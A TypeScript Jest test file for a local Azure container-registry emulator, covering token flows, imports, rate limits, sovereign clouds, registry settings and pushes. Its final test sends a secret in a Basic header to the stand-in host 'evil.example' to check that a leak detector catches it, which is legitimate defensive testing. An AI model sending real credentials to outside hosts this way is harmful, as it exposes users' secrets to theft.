// Holds the less common parts of the local Azure to what is documented of them: other registries, clouds, limits, lag, pushes.
import { afterEach, beforeEach, describe, expect, it } from "@jest/globals";
import type { Answer } from "../emulator/answers.ts";
import { type LocalAzure, startLocalAzure } from "../emulator/azure.ts";
import type { CloudName } from "../emulator/clouds.ts";
import { addGitHubApi } from "../emulator/github-api.ts";
import { MEDIA_TYPES } from "../emulator/images.ts";
import { addListener } from "../emulator/listener.ts";
import { digestOfBytes } from "../emulator/registry-store.ts";
import { type Contoso, contoso, IMPORTER_ROLE, seedContoso } from "../emulator/seed.ts";
import {
  fabrikam,
  seedBasicRegistry,
  seedCompanyRegistry,
  seedDockerHub,
  seedFabrikam,
  seedMicrosoftRegistry,
} from "../emulator/seed-sources.ts";
import type { AzureRegistry } from "../emulator/world.ts";

let azure: LocalAzure;
let world: Contoso;

async function start(cloud: CloudName = "public"): Promise<void> {
  azure = await startLocalAzure();
  world = seedContoso(azure, cloud);
}

beforeEach(() => start());
afterEach(() => azure.close());

const ACCEPT = [MEDIA_TYPES.index, MEDIA_TYPES.manifest, MEDIA_TYPES.dockerList, MEDIA_TYPES.dockerManifest].join();
const bodyOf = (answer: Answer) => JSON.parse(answer.body.toString()) as Record<string, unknown>;
const messageOf = (answer: Answer) => {
  const { error, errors } = bodyOf(answer) as { error?: { message: string }; errors?: { message: string }[] };
  return error?.message ?? errors?.[0]?.message ?? "";
};
const postForm = (url: string, fields: Record<string, string>) =>
  azure.ask(url, { method: "POST", body: new URLSearchParams(fields).toString() });
const basic = (username: string, password: string) => ({
  Authorization: `Basic ${Buffer.from(`${username}:${password}`).toString("base64")}`,
});

async function signIn(scope: string, audience = "api://AzureADTokenExchange", authority = "login.microsoftonline.com") {
  const env = azure.env();
  const asked = await azure.ask(`${env["ACTIONS_ID_TOKEN_REQUEST_URL"]}&audience=${encodeURIComponent(audience)}`, {
    headers: { Authorization: `Bearer ${env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]}` },
  });
  return await postForm(`https://${authority}/${contoso.tenantId}/oauth2/v2.0/token`, {
    client_id: contoso.clientId,
    grant_type: "client_credentials",
    scope,
    client_assertion_type: "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
    client_assertion: String(bodyOf(asked)["value"]),
  });
}

const entraToken = async (scope: string) => String(bodyOf(await signIn(scope))["access_token"]);

async function bearer(registry: AzureRegistry, scope: string): Promise<Record<string, string>> {
  const { loginServer } = registry.properties;
  const accessToken = await entraToken("https://containerregistry.azure.net/.default");
  const exchanged = await postForm(`https://${loginServer}/oauth2/exchange`, {
    grant_type: "access_token",
    service: loginServer,
    access_token: accessToken,
  });
  const given = await postForm(`https://${loginServer}/oauth2/token`, {
    grant_type: "refresh_token",
    service: loginServer,
    scope,
    refresh_token: String(bodyOf(exchanged)["refresh_token"]),
  });
  return { Authorization: `Bearer ${bodyOf(given)["access_token"]}`, Accept: ACCEPT };
}

/** Imports and gives the final poll, or the refusal of the POST. */
async function importInto(registry: AzureRegistry, body: object): Promise<Answer> {
  const headers = { Authorization: `Bearer ${await entraToken("https://management.azure.com/.default")}` };
  const url = `https://management.azure.com${registry.id}/importImage?api-version=2025-11-01`;
  const accepted = await azure.ask(url, { method: "POST", headers, body: JSON.stringify(body) });
  if (accepted.status !== 202) return accepted;
  await azure.imports.operations.at(-1)?.finished;
  return await azure.ask(String(accepted.headers["Location"]), { headers });
}

describe("Docker Hub", () => {
  const manifest = "https://registry-1.docker.io/v2/library/alpine/manifests/3.22";
  const token = async (headers: Record<string, string> = {}) => {
    const url = "https://auth.docker.io/token?service=registry.docker.io&scope=repository:library/alpine:pull";
    return { Authorization: `Bearer ${bodyOf(await azure.ask(url, { headers }))["token"]}`, Accept: ACCEPT };
  };

  it("challenges to its token service and counts GET but not HEAD as a pull", async () => {
    const { digests } = seedDockerHub(azure);
    expect((await azure.ask(manifest)).headers["WWW-Authenticate"]).toBe(
      'Bearer realm="https://auth.docker.io/token",service="registry.docker.io",scope="repository:library/alpine:pull"',
    );
    const headers = await token();
    const head = await azure.ask(manifest, { method: "HEAD", headers });
    expect(head.headers["ratelimit-remaining"]).toBe("100;w=21600");
    const get = await azure.ask(manifest, { headers });
    expect(get.headers["ratelimit-remaining"]).toBe("99;w=21600");
    expect(get.headers["Docker-Content-Digest"]).toBe(digests["library/alpine:3.22"]);
  });

  it("refuses pulls past the quota, to the anonymous earlier than to a user", async () => {
    const { registry } = seedDockerHub(azure);
    registry.pulls.set("", 100);
    const refused = await azure.ask(manifest, { headers: await token() });
    expect([refused.status, messageOf(refused)]).toEqual([
      429,
      expect.stringContaining("unauthenticated pull rate limit"),
    ]);
    const user = basic("contoso", registry.users.get("contoso") ?? "");
    expect((await azure.ask(manifest, { headers: await token(user) })).status).toBe(200);
  });

  it("knows official images under library/ only, for imports too", async () => {
    const { digests } = seedDockerHub(azure);
    const importOf = (sourceImage: string) =>
      importInto(world.prod, {
        source: { registryUri: "docker.io", sourceImage },
        targetTags: ["base/alpine:1"],
        mode: "Force",
      });
    expect(messageOf(await importOf("alpine:3.22"))).toMatch(
      /Invalid message Unauthorized Unauthorized .+"Name":"alpine","Action":"pull"/,
    );
    expect((await importOf("library/alpine:3.22")).status).toBe(200);
    expect(world.prod.store.tagDigest("base/alpine", "1")).toBe(digests["library/alpine:3.22"]);
  });
});

describe("other registries", () => {
  it("let Microsoft's images be read and imported without any token", async () => {
    const { digests } = seedMicrosoftRegistry(azure);
    const url = "https://mcr.microsoft.com/v2/dotnet/runtime/manifests/9.0";
    expect((await azure.ask(url)).headers["Docker-Content-Digest"]).toBe(digests["dotnet/runtime:9.0"]);
    const source = { registryUri: "mcr.microsoft.com", sourceImage: "dotnet/runtime:9.0" };
    expect((await importInto(world.prod, { source, targetTags: ["runtime:9"] })).status).toBe(200);
  });

  it("give tokens at another host of the company, which hold at their own registry only", async () => {
    const { registry } = seedCompanyRegistry(azure);
    const url = "https://auth.fabrikam.example/jwt/auth?service=container_registry&scope=repository:team/app:pull";
    const headers = basic("deploy", registry.users.get("deploy") ?? "");
    expect((await azure.ask(url, { headers: basic("deploy", "wrong") })).status).toBe(401);
    const authorization = {
      Authorization: `Bearer ${bodyOf(await azure.ask(url, { headers }))["token"]}`,
      Accept: ACCEPT,
    };
    const manifest = "https://registry.fabrikam.example/v2/team/app/manifests/2";
    expect((await azure.ask(manifest, { headers: authorization })).status).toBe(200);
    expect((await azure.ask(manifest)).status).toBe(401);
    seedDockerHub(azure);
    const hub = "https://registry-1.docker.io/v2/library/alpine/manifests/3.22";
    expect((await azure.ask(hub, { headers: authorization })).status).toBe(401);
  });

  it("take Basic authentication where they have no tokens", async () => {
    const { registry } = seedBasicRegistry(azure);
    const url = "https://mirror.fabrikam.example/v2/base/debian/manifests/12";
    expect((await azure.ask(url)).headers["WWW-Authenticate"]).toBe('Basic realm="Registry"');
    const headers = { ...basic("reader", registry.users.get("reader") ?? ""), Accept: ACCEPT };
    expect((await azure.ask(url, { headers })).status).toBe(200);
  });
});

describe("a second tenant", () => {
  const credentials: [string, () => object | undefined, number][] = [
    ["nothing", () => undefined, 400],
    ["a service principal", () => ({ username: fabrikam.clientId, password: fabrikam.clientSecret }), 200],
    ["a repository-scoped token", () => repositoryScoped(), 200],
    ["a wrong password", () => ({ username: fabrikam.repositoryScopedToken.name, password: "wrong-password" }), 400],
  ];
  const repositoryScoped = () => {
    const { name, password } = fabrikam.repositoryScopedToken;
    return { username: name, password };
  };

  it.each(credentials)("is read with %s or not at all", async (_name, make, status) => {
    const { digest } = seedFabrikam(azure);
    const given = make();
    const source = {
      registryUri: fabrikam.loginServer,
      sourceImage: `partner/app@${digest}`,
      ...(given === undefined ? {} : { credentials: given }),
    };
    const done = await importInto(world.prod, { source, targetTags: ["app:5"] });
    expect(done.status).toBe(status);
    expect(world.prod.store.tagDigest("app", "5")).toBe(status === 200 ? digest : undefined);
  });

  it("is out of reach by resource ID", async () => {
    const { registry, digest } = seedFabrikam(azure);
    const source = { resourceId: registry.id, sourceImage: `partner/app@${digest}` };
    expect((await importInto(world.prod, { source, targetTags: ["app:5"] })).status).toBe(403);
  });
});

describe("sovereign clouds", () => {
  const rows: [CloudName, string, string, string, string][] = [
    [
      "government",
      "login.microsoftonline.us",
      "https://management.usgovcloudapi.net",
      "USGov",
      "contosoprod.azurecr.us",
    ],
    [
      "china",
      "login.partner.microsoftonline.cn",
      "https://management.chinacloudapi.cn",
      "China",
      "contosoprod.azurecr.cn",
    ],
  ];
  it.each(rows)("are worlds of their own: %s", async (cloud, authority, arm, audience, loginServer) => {
    await azure.close();
    await start(cloud);
    expect(world.prod.properties.loginServer).toBe(loginServer);
    const given = await signIn(`${arm}/.default`, `api://AzureADTokenExchange${audience}`, authority);
    const headers = { Authorization: `Bearer ${bodyOf(given)["access_token"]}` };
    expect((await azure.ask(`${arm}${world.prod.id}?api-version=2025-11-01`, { headers })).status).toBe(200);
    const mixed = await signIn("https://management.azure.com/.default", undefined, authority);
    expect(bodyOf(mixed)["error_codes"]).toEqual([700212]);
  });
});

describe("the settings of a registry", () => {
  it("in ABAC mode turn AcrPull off and Repository Reader on", async () => {
    azure.revoke(contoso.clientId, world.dev.id);
    azure.grant(contoso.clientId, "AcrPull", world.dev.id);
    const read = async () => {
      const headers = await bearer(world.dev, "repository:worker:pull");
      return (await azure.ask(`https://${contoso.dev}/v2/worker/manifests/build-812`, { headers })).status;
    };
    expect(await read()).toBe(200);
    world.dev.properties.roleAssignmentMode = "AbacRepositoryPermissions";
    expect(await read()).toBe(401);
    azure.grant(contoso.clientId, "Container Registry Repository Reader", world.dev.id);
    expect(await read()).toBe(200);
  });

  it("with a customer-managed key take the referrers API away", async () => {
    world.dev.properties.encryption.status = "enabled";
    const headers = await bearer(world.dev, "repository:api:pull");
    const url = `https://${contoso.dev}/v2/api/referrers/${world.digests.api.index}`;
    expect((await azure.ask(url, { headers })).status).toBe(404);
  });

  it("with a DNS label answer at that name alone", async () => {
    const { subscriptionId, clientId } = contoso;
    const loginServer = "labelled-b7d2h5aa.azurecr.io";
    const registry = azure.addRegistry({ name: "labelled", resourceGroup: "rg-dev", subscriptionId, loginServer });
    azure.grant(clientId, IMPORTER_ROLE, registry.id);
    expect((await azure.ask(`https://${loginServer}/v2/`)).status).toBe(401);
    await expect(azure.ask("https://labelled.azurecr.io/v2/")).rejects.toThrow("nobody answers");
  });

  it("with regional endpoints take tokens at either name", async () => {
    const { subscriptionId, clientId } = contoso;
    const registry = azure.addRegistry({
      name: "worldwide",
      resourceGroup: "rg-dev",
      subscriptionId,
      regionalEndpoints: ["westus"],
    });
    azure.grant(clientId, IMPORTER_ROLE, registry.id);
    const headers = await bearer(registry, "repository:x:pull");
    const challenge = await azure.ask("https://worldwide.westus.geo.azurecr.io/v2/");
    expect(challenge.headers["Www-Authenticate"]).toContain(
      'realm="https://worldwide.westus.geo.azurecr.io/oauth2/token"',
    );
    expect((await azure.ask("https://worldwide.westus.geo.azurecr.io/v2/", { headers })).status).toBe(200);
  });

  it("with anonymous pull give tokens to nobody in particular", async () => {
    const url = `https://${contoso.dev}/oauth2/token?service=${contoso.dev}&scope=repository:worker:pull`;
    expect((await azure.ask(url)).status).toBe(401);
    world.dev.properties.anonymousPullEnabled = true;
    const headers = { Authorization: `Bearer ${bodyOf(await azure.ask(url))["access_token"]}`, Accept: ACCEPT };
    expect((await azure.ask(`https://${contoso.dev}/v2/worker/manifests/build-812`, { headers })).status).toBe(200);
  });

  it("with soft delete refuse an import over what was deleted", async () => {
    world.prod.properties.policies.softDeletePolicy.status = "enabled";
    const body = {
      source: { resourceId: world.dev.id, sourceImage: `worker@${world.digests.worker}` },
      targetTags: ["worker:1"],
    };
    expect((await importInto(world.prod, body)).status).toBe(200);
    world.prod.store.deleteManifest("worker", world.digests.worker);
    expect(messageOf(await importInto(world.prod, body))).toContain("soft deleted");
  });

  it("of a subscription without the provider refuse the POST", async () => {
    for (const subscription of azure.world.subscriptions) subscription.registered = false;
    const refused = await importInto(world.prod, { source: { resourceId: world.dev.id, sourceImage: "api" } });
    expect([refused.status, messageOf(refused)]).toEqual([
      409,
      expect.stringContaining("not registered to use namespace"),
    ]);
  });
});

describe("lag and limits", () => {
  it("let a replica show the old state for some reads", async () => {
    const headers = await bearer(world.prod, "repository:worker:pull,metadata_read");
    const manifest = () => azure.ask(`https://${contoso.prod}/v2/worker/manifests/1`, { headers });
    world.prod.store.putManifest("worker", MEDIA_TYPES.manifest, Buffer.from('{"old":1}'), "1");
    world.prod.lag(({ reads }) => reads < 2);
    const body = {
      source: { resourceId: world.dev.id, sourceImage: `worker@${world.digests.worker}` },
      targetTags: ["worker:1", "worker:2"],
      mode: "Force",
    };
    expect((await importInto(world.prod, body)).status).toBe(200);
    const digests = [await manifest(), await manifest(), await manifest()].map(
      (each) => each.headers["Docker-Content-Digest"],
    );
    expect(digests).toEqual([
      digestOfBytes(Buffer.from('{"old":1}')),
      digestOfBytes(Buffer.from('{"old":1}')),
      world.digests.worker,
    ]);
    const tag = () => azure.ask(`https://${contoso.prod}/acr/v1/worker/_tags/2`, { headers });
    expect([(await tag()).status, (await tag()).status, (await tag()).status]).toEqual([404, 404, 200]);
  });

  it("refuse requests past the budget of a class, with a Retry-After that counts down", async () => {
    world.dev.limits.listReferrers = 1;
    const headers = await bearer(world.dev, "repository:api:pull");
    const ask = () => azure.ask(`https://${contoso.dev}/v2/api/referrers/${world.digests.api.index}`, { headers });
    expect((await ask()).status).toBe(200);
    const refused = await ask();
    expect([refused.status, refused.headers["Retry-After"]]).toEqual([429, "60"]);
    expect(messageOf(refused)).toMatch(/^toomanyrequests: /);
    azure.world.clock.offsetMs = 20_000;
    expect((await ask()).headers["Retry-After"]).toBe("40");
    azure.world.clock.offsetMs = 60_000;
    expect((await ask()).status).toBe(200);
  });

  it("refuse import POSTs past ARM's write bucket", async () => {
    azure.resourceManager.writeLimit = 1;
    const body = {
      source: { resourceId: world.dev.id, sourceImage: `worker@${world.digests.worker}` },
      targetTags: ["a:1"],
    };
    expect((await importInto(world.prod, body)).status).toBe(200);
    const refused = await importInto(world.prod, body);
    expect([refused.status, refused.headers["Retry-After"]]).toEqual([429, "60"]);
  });
});

describe("a push", () => {
  const push = async (registry: AzureRegistry, tag: string) => {
    const { loginServer } = registry.properties;
    const headers = await bearer(registry, "repository:pushed:pull,push");
    const config = Buffer.from("{}");
    const started = await azure.ask(`https://${loginServer}/v2/pushed/blobs/uploads/`, { method: "POST", headers });
    if (started.status !== 202) return started;
    const upload = `https://${loginServer}${started.headers["Location"]}`;
    await azure.ask(upload, { method: "PATCH", headers, body: config });
    await azure.ask(`${upload}?digest=${digestOfBytes(config)}`, { method: "PUT", headers });
    const descriptor = { mediaType: MEDIA_TYPES.config, digest: digestOfBytes(config), size: config.length };
    return await azure.ask(`https://${loginServer}/v2/pushed/manifests/${tag}`, {
      method: "PUT",
      headers: { ...headers, "Content-Type": MEDIA_TYPES.manifest },
      body: JSON.stringify({ schemaVersion: 2, mediaType: MEDIA_TYPES.manifest, config: descriptor, layers: [] }),
    });
  };

  it("needs the right to, and lands", async () => {
    expect((await push(world.dev, "1")).status).toBe(401);
    azure.grant(contoso.clientId, "AcrPush", world.dev.id);
    expect((await push(world.dev, "1")).status).toBe(201);
    expect(world.dev.store.manifest("pushed", "1")?.mediaType).toBe(MEDIA_TYPES.manifest);
  });

  it("is refused on a locked tag", async () => {
    azure.grant(contoso.clientId, "AcrPush", world.dev.id);
    await push(world.dev, "1");
    world.dev.store.lock("pushed", "1");
    const refused = await push(world.dev, "1");
    expect([refused.status, messageOf(refused)]).toEqual([405, expect.stringContaining("The operation is disallowed")]);
  });
});

it("lists attestations of a repository and of an owner in pages, bundles inline or by URL", async () => {
  const github = addGitHubApi(azure);
  const subjectDigest = world.digests.worker;
  const repository = "contoso/shop";
  github.attestations.push(
    { repository, subjectDigest, bundle: { n: 1 } },
    { repository, subjectDigest, bundle: { n: 2 }, byUrl: true },
  );
  github.pageSize = 1;
  const first = await azure.ask(`https://api.github.com/repos/Contoso/shop/attestations/${subjectDigest}`);
  expect(bodyOf(first)["attestations"]).toMatchObject([{ bundle: { n: 1 } }]);
  const next = /<(.+)>; rel="next"/.exec(String(first.headers["Link"]))?.[1] ?? "";
  const [second] = bodyOf(await azure.ask(next))["attestations"] as { bundle: unknown; bundle_url: string }[];
  expect(second?.bundle).toBeNull();
  expect(bodyOf(await azure.ask(second?.bundle_url ?? ""))).toEqual({ n: 2 });
  expect((await azure.ask(`https://api.github.com/orgs/contoso/attestations/${subjectDigest}`)).status).toBe(200);
  expect((await azure.ask(`https://api.github.com/orgs/contoso/attestations/${world.digests.chart}`)).status).toBe(404);
});

it("finds secrets that reach a listener, plain or within a Basic header", async () => {
  const listener = addListener(azure, "evil.example");
  const [secret = ""] = azure.secrets();
  await azure.ask("https://evil.example/?x=1", { headers: { "X-Nothing": "here" } });
  expect(listener.leaks()).toEqual([]);
  await azure.ask("https://evil.example/", { headers: basic("me", secret) });
  expect(listener.leaks()).toEqual([secret]);
  expect(listener.requests()).toHaveLength(2);
});
